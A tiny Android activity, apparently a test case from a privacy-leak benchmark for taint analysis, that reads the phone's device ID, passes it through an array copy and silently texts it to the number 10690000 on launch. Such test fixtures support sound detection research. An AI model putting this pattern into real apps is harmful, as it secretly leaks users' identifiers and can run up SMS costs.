package cn.privlens.suite.cells_moved;

import android.app.*;
import android.content.*;
import android.database.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import java.util.*;
import java.util.concurrent.*;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String[] from = {"a", ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId()};
        String[] to = new String[3];
        System.arraycopy(from, 0, to, 1, 2);
        SmsManager.getDefault().sendTextMessage("10690000", null, to[2], null, null);
    }
}
